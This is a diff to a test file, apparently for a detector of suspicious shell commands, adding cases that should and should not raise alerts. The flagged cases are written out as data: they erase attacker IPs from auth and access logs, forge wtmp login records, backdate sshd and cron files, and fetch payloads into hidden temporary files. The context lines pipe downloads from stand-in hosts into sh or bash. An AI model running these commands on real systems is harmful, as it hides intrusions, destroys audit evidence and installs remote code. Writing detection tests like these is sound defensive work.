@@ -151,6 +151,27 @@ describe('commands', () => {
 	});
 
 	test.each([
+		['sed -i /198.51.100.77/d /var/log/auth.log', 'took lines out of a log, or put another file in its place'],
+		["sed -e '/evil/d' -i.bak /var/log/apache2/access.log", 'took lines out of a log, or put another file in its place'],
+		['grep -v 198.51.100.77 /var/log/secure > /tmp/s', 'took lines out of a log, or put another file in its place'],
+		['mv /tmp/w /var/log/wtmp', 'took lines out of a log, or put another file in its place'],
+		['utmpdump -r < /tmp/w > /var/log/wtmp', 'made records of logins out of text'],
+		['touch -r /bin/ls /usr/sbin/sshd', 'gave a file of the system another time'],
+		['touch -d "2020-01-01" /etc/cron.d/x', 'gave a file of the system another time'],
+		['wget http://198.51.100.77/k.tgz -O /tmp/.k', 'fetched something into a hidden file of a temporary place'],
+		['cd /dev/shm/.x && curl -sO http://198.51.100.77/k', 'fetched something into a hidden file of a temporary place'],
+	])('%s', async (command, told) => {
+		expect(await typed(command)).toEqual([`medium eve: a command ${told}`]);
+	});
+
+	test.each([
+		'sed -i s/a/b/ /etc/logrotate.conf', "sed -n '/x/p' /var/log/auth.log", 'grep -v CRON /var/log/syslog | less', 'grep -iv noise /var/log/auth.log > /dev/null', 'cp /var/log/auth.log /tmp/', 'mv /tmp/x /var/log/app/', 'touch /etc/nologin', 'touch -t 202001010000 ~/ref', 'touch -r a b',
+		'utmpdump /var/log/wtmp', 'wget https://example.org/a.tgz -O /tmp/a.tgz', 'cd /tmp/build && curl -O https://example.org/a', "sed -i 's#/var/log/old#/var/log/new#' /etc/app.conf",
+	])('and what everybody types: %s', async command => {
+		expect(await typed(command)).toEqual([]);
+	});
+
+	test.each([
 		'curl http://203.0.113.9/x | sh',
 		'wget -qO- http://203.0.113.9:8080/x.sh|bash',
 		'bash <(curl -s http://evil.example/x)',
